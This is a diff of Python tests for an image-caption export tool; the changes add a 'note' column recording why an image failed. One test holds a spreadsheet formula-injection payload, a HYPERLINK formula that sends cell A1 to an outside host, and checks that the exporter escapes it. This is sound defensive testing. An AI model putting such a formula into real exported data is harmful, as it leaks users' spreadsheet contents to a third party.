@@ -160,14 +160,18 @@ def test_a_table_for_spreadsheets() -> None:
     data = write(DONE, "csv", "sks, ")
     assert data.startswith(b"\xef\xbb\xbf")
     rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
-    assert rows == [["file", "caption"], ["a.png", "sks, Ein, „Tier“\nhier"], ["a-2.jpg", "sks, 狗"]]
+    assert rows == [
+        ["file", "caption", "note"],
+        ["a.png", "sks, Ein, „Tier“\nhier", ""],
+        ["a-2.jpg", "sks, 狗", ""],
+    ]
 
 
 def test_a_list_for_programs() -> None:
     text = write(DONE, "json").decode()
     assert json.loads(text) == [
-        {"file": "a.png", "caption": "Ein, „Tier“\nhier"},
-        {"file": "a-2.jpg", "caption": "狗"},
+        {"file": "a.png", "caption": "Ein, „Tier“\nhier", "note": ""},
+        {"file": "a-2.jpg", "caption": "狗", "note": ""},
     ]
     assert "狗" in text
 
@@ -179,6 +183,37 @@ def test_pictures_and_beside_each_its_caption() -> None:
         "a.png": b"1", "a.txt": "p Ein, „Tier“\nhier\n".encode(),
         "a-2.jpg": b"3", "a-2.txt": "p 狗\n".encode(),
     }  # fmt: skip
+
+
+FAILED = [
+    Caption("a.png", b"1", "a cat"),
+    Caption("b.png", b"2", trouble=BadInput("=It is none.", "不是图片。")),
+    Caption("c.png", b"3"),
+    Caption("notes.png", b"4", "written by hand", BadInput("It is none.", "不是图片。")),
+]
+
+
+def test_what_failed_is_in_every_file_with_its_reason_and_no_caption() -> None:
+    rows = [
+        {"file": "a.png", "caption": "p a cat", "note": ""},
+        {"file": "b.png", "caption": "", "note": "=It is none."},
+        {"file": "notes-2.png", "caption": "p written by hand", "note": "It is none."},
+    ]
+    assert json.loads(write(FAILED, "json", "p ")) == rows
+    safe = [rows[0], {**rows[1], "note": "'=It is none."}, rows[2]]
+    assert table(write(FAILED, "csv", "p ")) == safe
+    with zipfile.ZipFile(io.BytesIO(write(FAILED, "zip", "p "))) as archive:
+        assert archive.namelist() == ["a.png", "a.txt", "notes-2.png", "notes-2.txt", "notes.csv"]
+        assert table(archive.read("notes.csv")) == safe[1:]
+    assert [row["note"] for row in json.loads(write(FAILED, "json", language="zh"))] == [
+        "",
+        "不是图片。",
+        "不是图片。",
+    ]
+
+
+def table(data: bytes) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
 
 
 def test_every_format_has_its_type() -> None:
@@ -213,6 +248,6 @@ def test_no_cell_is_a_formula(begin: str) -> None:
     text = f'{begin}HYPERLINK("http://elsewhere/?"&A1)'
     made = [Caption(f"{begin.strip()}1.png", b"a", text), Caption("b.png", b"b", f"a {text}")]
     _, first, second = csv.reader(io.StringIO(write(made, "csv").decode("utf-8-sig"), newline=""))
-    assert first == [f"'{begin.strip()}1.png", f"'{text}"]
-    assert second == ["b.png", f"a {text}"]
+    assert first == [f"'{begin.strip()}1.png", f"'{text}", ""]
+    assert second == ["b.png", f"a {text}", ""]
     assert json.loads(write(made, "json"))[0]["caption"] == text  # JSON is calculated by nobody
